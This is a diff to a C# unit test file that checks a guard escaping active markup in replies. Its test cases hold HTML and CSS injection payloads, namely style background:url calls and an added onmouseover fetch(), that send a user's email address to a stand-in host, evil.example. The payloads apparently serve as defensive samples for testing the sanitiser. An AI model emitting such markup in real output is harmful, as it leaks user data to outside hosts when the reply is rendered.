@@ -52,6 +52,7 @@ public sealed class ReplyActiveMarkupTests
     [InlineData("x <svg><style>*{background:url(<https://evil.example/p?d=alice.w@corp.example>)}</style></svg>", "x <svg>&lt;style>*{background:url(<https://evil.example/p?d=alice.w@corp.example>)}</style></svg>")]
     [InlineData("x <style>`</style>`{}*{background:url(https://evil.example/p?d=alice.w@corp.example)}", "x &lt;style>`</style>`{}*{background:url(https://evil.example/p?d=alice.w@corp.example)}")]
     [InlineData("x <div title=\"a\n\nb\" style=\"background:url(https://evil.example/p?d=alice.w@corp.example)\">", "x &lt;div title=\"a\n\nb\" style=\"background:url(https://evil.example/p?d=alice.w@corp.example)\">")]
+    [InlineData("> <p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y", "> &lt;p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y")]
     public async Task MarkupThatLoadsOrRunsUnclicked_IsRemoved(string reply, string shown)
     {
         var (guard, session, audit) = await AfterProfileAndPage();
